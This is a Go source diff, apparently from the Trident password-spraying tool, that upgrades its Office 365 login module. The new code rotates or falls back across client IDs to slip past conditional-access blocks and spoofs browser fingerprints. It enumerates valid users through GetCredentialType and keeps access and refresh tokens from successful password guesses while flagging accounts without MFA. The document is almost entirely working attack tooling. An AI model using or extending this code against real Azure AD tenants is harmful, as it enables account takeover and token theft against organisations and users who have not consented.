@@ -15,28 +15,22 @@
 package o365
 
 import (
+	"bytes"
 	"context"
 	"encoding/json"
 	"fmt"
 	"net/http"
-	"regexp"
+	"net/url"
 	"strings"
 	"time"
 
 	"golang.org/x/time/rate"
 
 	"github.com/praetorian-inc/trident/pkg/event"
+	"github.com/praetorian-inc/trident/pkg/fingerprint"
 	"github.com/praetorian-inc/trident/pkg/nozzle"
 )
 
-const (
-	// FrozenUserAgent is a static user agent that we use for all requests. This
-	// value is based on the UA client hint work within browsers.
-	// Additional details: https://bugs.chromium.org/p/chromium/issues/detail?id=955620
-	FrozenUserAgent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" +
-		"AppleWebKit/537.36 (KHTML, like Gecko) Chrome/75.0.3764.0 Safari/537.36"
-)
-
 var (
 	// RateLimiter limits requests from the same worker to a maximum of 3/s
 	RateLimiter = rate.NewLimiter(rate.Every(300*time.Millisecond), 1)
@@ -56,6 +50,45 @@ func init() {
 //
 // The domain to send oauth requests to. This defaults to login.microsoft.com and
 // is unlikely to require configuration.
+//
+// endpoint
+//
+// The token endpoint version, either v1 (default) or v2. The v1 endpoint
+// requests a token for the client's resource, while the v2 endpoint requests
+// the "<resource>/.default" scope in addition to the scopes option.
+//
+// clients
+//
+// A comma separated list of client_id=resource pairs used to request tokens,
+// or "first-party" to use the built in FirstPartyClients list. This defaults
+// to the Azure AD PowerShell client and the graph.windows.net resource.
+//
+// client-mode
+//
+// Either fallback (default) or rotate. In fallback mode, each client is tried
+// in order until one is not blocked by conditional access or application
+// policy. In rotate mode, each login uses the next client in the list.
+//
+// scopes
+//
+// Space separated scopes requested from the v2 endpoint. This defaults to
+// "openid".
+//
+// simulator
+//
+// The host:port of a trident-idp-sim server to send logins to instead of
+// Azure AD, for rehearsing a campaign. Its certificate is not verified.
+//
+// insecure
+//
+// Set to true to skip verification of Azure AD's TLS certificate, e.g. when
+// sending logins through an intercepting proxy. Certificates are verified by
+// default.
+//
+// profiles, profile-mode
+//
+// The browser fingerprint profiles to send and how to choose between them. See
+// the fingerprint package for details.
 func (Driver) New(opts map[string]string) (nozzle.Nozzle, error) {
 	domain, ok := opts["domain"]
 	if !ok {
@@ -63,9 +96,56 @@ func (Driver) New(opts map[string]string) (nozzle.Nozzle, error) {
 		domain = "login.microsoft.com"
 	}
 
+	insecure, err := nozzle.Insecure(opts)
+	if err != nil {
+		return nil, fmt.Errorf("o365 nozzle: %v", err)
+	}
+
+	client := nozzle.NewClient(insecure)
+	if sim, ok := nozzle.Simulator(opts); ok {
+		domain = sim
+		client = nozzle.SimulatorClient
+	}
+
+	endpoint, ok := opts["endpoint"]
+	if !ok {
+		endpoint = "v1"
+	}
+	if endpoint != "v1" && endpoint != "v2" {
+		return nil, fmt.Errorf("o365 nozzle: unknown endpoint %q", endpoint)
+	}
+
+	clients, err := parseClients(opts["clients"])
+	if err != nil {
+		return nil, err
+	}
+
+	mode, ok := opts["client-mode"]
+	if !ok {
+		mode = ClientModeFallback
+	}
+	if mode != ClientModeFallback && mode != ClientModeRotate {
+		return nil, fmt.Errorf("o365 nozzle: unknown client mode %q", mode)
+	}
+
+	scopes, ok := opts["scopes"]
+	if !ok {
+		scopes = "openid"
+	}
+
+	profiles, err := fingerprint.NewSelector(opts)
+	if err != nil {
+		return nil, err
+	}
+
 	return &Nozzle{
-		Domain:    domain,
-		UserAgent: FrozenUserAgent,
+		Domain:     domain,
+		Endpoint:   endpoint,
+		Clients:    clients,
+		ClientMode: mode,
+		Scopes:     scopes,
+		Profiles:   profiles,
+		Client:     client,
 	}, nil
 }
 
@@ -75,8 +155,23 @@ type Nozzle struct {
 	// "login.microsoft.com" for example
 	Domain string
 
-	// UserAgent will override the Go-http-client user-agent in requests
-	UserAgent string
+	// Endpoint is the token endpoint version (v1 or v2)
+	Endpoint string
+
+	// Clients are the client_id and resource pairs used to request tokens
+	Clients []ClientConfig
+
+	// ClientMode is either ClientModeFallback or ClientModeRotate
+	ClientMode string
+
+	// Scopes are the additional scopes requested from the v2 endpoint
+	Scopes string
+
+	// Profiles selects the browser headers sent with each request
+	Profiles *fingerprint.Selector
+
+	// Client is the HTTP client used to send requests
+	Client *http.Client
 }
 
 // struct for error response from o365
@@ -93,119 +188,261 @@ type o365Error struct {
 }
 
 var (
-	oauth2TokenURL  = "https://%s/common/oauth2/token" // nolint:gosec
-	oauth2TokenBody = "grant_type=password" +
-		"&resource=https://graph.windows.net" +
-		"&client_id=1b730954-1685-4b74-9bfd-dac224a7b894" +
-		"&lient_info=1" +
-		"&username=%s" +
-		"&password=%s" +
-		"&scope=openid"
+	oauth2TokenURL   = "https://%s/common/oauth2/token"      // nolint:gosec
+	oauth2V2TokenURL = "https://%s/common/oauth2/v2.0/token" // nolint:gosec
 )
 
-func (n *Nozzle) oauth2TokenLogin(username, password string) (*event.AuthResponse, error) {
-	url := fmt.Sprintf(oauth2TokenURL, n.Domain)
-	body := fmt.Sprintf(oauth2TokenBody, username, password)
+func (n *Nozzle) tokenRequest(username, password string, c ClientConfig) (string, string) {
+	form := url.Values{}
+	form.Set("grant_type", "password")
+	form.Set("client_id", c.ClientID)
+	form.Set("client_info", "1")
+	form.Set("username", username)
+	form.Set("password", password)
+
+	if n.Endpoint == "v2" {
+		scope := strings.TrimRight(c.Resource, "/") + "/.default"
+		if n.Scopes != "" {
+			scope += " " + n.Scopes
+		}
+		form.Set("scope", scope)
+		return fmt.Sprintf(oauth2V2TokenURL, n.Domain), form.Encode()
+	}
+
+	form.Set("resource", c.Resource)
+	form.Set("scope", "openid")
+	return fmt.Sprintf(oauth2TokenURL, n.Domain), form.Encode()
+}
+
+// oauth2TokenLogin performs a single ROPC login with the provided client. Error
+// responses are normalized using the Codes table. The bool reports whether the
+// error code is in the ClientBlocked table.
+func (n *Nozzle) oauth2TokenLogin(ctx context.Context, username, password string, c ClientConfig) (*event.AuthResponse, bool, error) {
+	tokenURL, body := n.tokenRequest(username, password, c)
 
-	req, _ := http.NewRequest("POST", url, strings.NewReader(body))
+	req, _ := http.NewRequestWithContext(ctx, "POST", tokenURL, strings.NewReader(body))
 	req.Header.Set("Accept", "application/json")
 	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
-	req.Header.Set("User-Agent", n.UserAgent)
+	n.Profiles.Apply(req, username)
 
-	resp, err := http.DefaultClient.Do(req)
+	resp, err := n.Client.Do(req)
 	if err != nil {
-		return nil, err
+		return nil, false, err
 	}
 	defer resp.Body.Close() // nolint:errcheck
 
 	switch resp.StatusCode {
-	// Success: from docs, it seems that 200 always indicates a successful auth attempt
+	// Success: a 200 with a token indicates a successful auth attempt. The
+	// token is checked so a proxy or captive portal answering with a 200 is
+	// not mistaken for a valid login.
 	case 200:
+		var res struct {
+			AccessToken  string `json:"access_token"`
+			RefreshToken string `json:"refresh_token"`
+			IDToken      string `json:"id_token"`
+		}
+		err = json.NewDecoder(resp.Body).Decode(&res)
+		if err != nil || res.AccessToken == "" {
+			return nil, false, fmt.Errorf("unrecognized o365 token response")
+		}
+
+		// a token issued for the password alone means MFA is not enforced
+		tokens := map[string]string{"access_token": res.AccessToken}
+		if res.RefreshToken != "" {
+			tokens["refresh_token"] = res.RefreshToken
+		}
+		if res.IDToken != "" {
+			tokens["id_token"] = res.IDToken
+		}
 		return &event.AuthResponse{
-			Valid: true,
-		}, nil
+			Valid:      true,
+			UserStatus: event.UserStatusExists,
+			Metadata:   map[string]interface{}{},
+			Artifacts: &event.Artifacts{
+				Tokens: tokens,
+				MFA:    event.MFAPostureNotEnforced,
+			},
+		}, false, nil
+	case 429:
+		return &event.AuthResponse{
+			RateLimited: true,
+			Metadata:    map[string]interface{}{},
+		}, false, nil
 	// a 400 does not necessarily indicate a failure, we need to check
 	// the response body to be sure
 	case 400, 401:
 		var res o365Error
 		err = json.NewDecoder(resp.Body).Decode(&res)
 		if err != nil {
-			return nil, err
+			return nil, false, err
 		}
-		// defaults for AuthResponse
-		valid := false
-		mfa := false
-		locked := false
+
 		// extract AADST code supplied in error_description
-		re := regexp.MustCompile("(AADSTS.*?):")
-		matches := re.FindStringSubmatch(res.ErrorDescription)
-		if len(matches) == 0 {
-			return nil, fmt.Errorf("unhandled error description: %s", res.ErrorDescription)
+		code := ParseCode(res.ErrorDescription)
+		if code == "" {
+			return nil, false, fmt.Errorf("unhandled error description: %s", res.ErrorDescription)
 		}
-		code := strings.TrimRight(matches[1], ":")
-		// switching on the AADSTS code
-		// https://docs.microsoft.com/en-us/azure/active-directory/develop/reference-aadsts-error-codes
-		switch code {
-		case "AADSTS50128":
-			// Invalid domain name - No tenant-identifying information found in either the
-			// request or implied by any provided credentials.
-			return nil, fmt.Errorf("invalid domain name from o365 nozzle")
-		case "AADSTS50126":
-			// InvalidUserNameOrPassword - Error validating credentials due to
-			// invalid username or password.
-			// keep default
-		case "AADSTS50079":
-			// UserStrongAuthEnrollmentRequired - Due to a configuration change made
-			// by the administrator, or because the user moved
-			// to a new location, the user is required to use multi-factor authentication.
-			mfa = true
-			valid = true
-		case "AADSTS50076":
-			// UserStrongAuthClientAuthNRequired - Due to a
-			// configuration change made by the admin, or because you moved to a new location,
-			// the user must use multi-factor authentication to access the resource. Retry with a
-			// new authorize request for the resource.
-			mfa = true
-			valid = true
-		case "AADSTS50059":
-			// MissingTenantRealmAndNoUserInformationProvided - Tenant-identifying information was not found
-			// in either the request or implied by any provided credentials. The user can contact
-			// the tenant admin to help resolve the issue.
-			return nil, fmt.Errorf("tenant identifying info was not found")
-		case "AADSTS50057":
-			// UserDisabled - The user account is disabled. The account has been disabled by an administrator.
-			locked = true
-		case "AADSTS50055":
-			// InvalidPasswordExpiredPassword - The password is expired.
-		case "AADSTS50053":
-			// IdsLocked - The account is locked because the user tried to sign in too many times
-			// with an incorrect user ID or password.
-			locked = true
-		case "AADSTS50034":
-			// UserAccountNotFound - To sign into this application, the account must be added to the directory.
+
+		if o, _ := LookupCode(code); o.Fatal {
+			return nil, false, fmt.Errorf("o365 request failed with %s (%s)", code, o.Desc)
 		}
-		return &event.AuthResponse{
-			Valid:  valid,
-			Locked: locked,
-			MFA:    mfa,
-			Metadata: map[string]interface{}{
-				"o365Error": res,
-			},
-		}, nil
+
+		ar := Response(code)
+		ar.Metadata["o365Error"] = res
+		return ar, ClientBlocked[code], nil
 	}
 
-	return nil, fmt.Errorf("unhandled status code from o365 oauth2 token login: %d", resp.StatusCode)
+	return nil, false, fmt.Errorf("unhandled status code from o365 oauth2 token login: %d", resp.StatusCode)
+}
+
+var (
+	getCredentialTypeURL = "https://%s/common/GetCredentialType"
+)
+
+// credentialType is the subset of the GetCredentialType response used for
+// user enumeration.
+type credentialType struct {
+	Username       string `json:"Username"`
+	IfExistsResult int    `json:"IfExistsResult"`
+	ThrottleStatus int    `json:"ThrottleStatus"`
+	Credentials    struct {
+		PrefCredential        int    `json:"PrefCredential"`
+		HasPassword           bool   `json:"HasPassword"`
+		FederationRedirectURL string `json:"FederationRedirectUrl"`
+	} `json:"Credentials"`
+	EstsProperties struct {
+		DomainType int `json:"DomainType"`
+	} `json:"EstsProperties"`
+}
+
+// DomainType values returned in EstsProperties
+const (
+	domainTypeConsumer  = 2
+	domainTypeManaged   = 3
+	domainTypeFederated = 4
+)
+
+// CheckUser fulfils the nozzle.Enumerator interface and uses the
+// GetCredentialType endpoint to determine whether a user exists. Results for
+// federated domains are reported as unknown since Azure AD does not know
+// about the users of the federated identity provider.
+func (n *Nozzle) CheckUser(username string) (*event.AuthResponse, error) {
+	ctx := context.Background()
+	err := RateLimiter.Wait(ctx)
+	if err != nil {
+		return nil, err
+	}
+
+	url := fmt.Sprintf(getCredentialTypeURL, n.Domain)
+	data, _ := json.Marshal(map[string]interface{}{
+		"username":            username,
+		"isOtherIdpSupported": true,
+	})
+
+	req, _ := http.NewRequest("POST", url, bytes.NewBuffer(data))
+	req.Header.Set("Accept", "application/json")
+	req.Header.Set("Content-Type", "application/json")
+	n.Profiles.Apply(req, username)
+
+	resp, err := n.Client.Do(req)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close() // nolint:errcheck
+
+	if resp.StatusCode != 200 {
+		return nil, fmt.Errorf("unhandled status code from o365 GetCredentialType: %d", resp.StatusCode)
+	}
+
+	var res credentialType
+	err = json.NewDecoder(resp.Body).Decode(&res)
+	if err != nil {
+		return nil, err
+	}
+
+	federation := "unknown"
+	switch res.EstsProperties.DomainType {
+	case domainTypeConsumer:
+		federation = "consumer"
+	case domainTypeManaged:
+		federation = "managed"
+	case domainTypeFederated:
+		federation = "federated"
+	}
+
+	status := event.UserStatusUnknown
+	switch {
+	case res.ThrottleStatus != 0:
+		// the IfExistsResult is unreliable while throttled
+	case res.EstsProperties.DomainType == domainTypeFederated:
+		// Azure AD always reports federated users as existing
+	case res.IfExistsResult == 0, res.IfExistsResult == 5, res.IfExistsResult == 6:
+		status = event.UserStatusExists
+	case res.IfExistsResult == 1:
+		status = event.UserStatusNotExists
+	}
+
+	metadata := map[string]interface{}{
+		"federation":     federation,
+		"ifExistsResult": res.IfExistsResult,
+		"hasPassword":    res.Credentials.HasPassword,
+	}
+	if res.Credentials.FederationRedirectURL != "" {
+		metadata["federationRedirectUrl"] = res.Credentials.FederationRedirectURL
+	}
+
+	return &event.AuthResponse{
+		UserStatus:  status,
+		RateLimited: res.ThrottleStatus != 0,
+		Metadata:    metadata,
+	}, nil
 }
 
 // Login fulfils the nozzle.Nozzle interface and performs an authentication
 // requests against o365. This function supports rate limiting and parses valid,
 // invalid, and locked out responses.
 func (n *Nozzle) Login(username, password string) (*event.AuthResponse, error) {
-	ctx := context.Background()
+	return n.LoginContext(context.Background(), username, password)
+}
+
+// LoginContext fulfils the nozzle.ContextNozzle interface. The request is
+// cancelled with ctx.
+func (n *Nozzle) LoginContext(ctx context.Context, username, password string) (*event.AuthResponse, error) {
 	err := RateLimiter.Wait(ctx)
 	if err != nil {
 		return nil, err
 	}
 
-	return n.oauth2TokenLogin(username, password)
+	var res *event.AuthResponse
+	var blocked []string
+	for i, c := range n.attemptOrder() {
+		if i > 0 {
+			err = RateLimiter.Wait(ctx)
+			if err != nil {
+				return nil, err
+			}
+		}
+
+		var clientBlocked bool
+		res, clientBlocked, err = n.oauth2TokenLogin(ctx, username, password, c)
+		if err != nil {
+			return nil, err
+		}
+
+		res.Metadata["clientId"] = c.ClientID
+		res.Metadata["resource"] = c.Resource
+		res.Metadata["endpoint"] = n.Endpoint
+
+		// only an application specific block is worth retrying, any other
+		// result is the same regardless of client
+		if !clientBlocked {
+			break
+		}
+		blocked = append(blocked, c.ClientID)
+	}
+
+	if len(blocked) > 0 {
+		res.Metadata["blockedClients"] = blocked
+	}
+	return res, nil
 }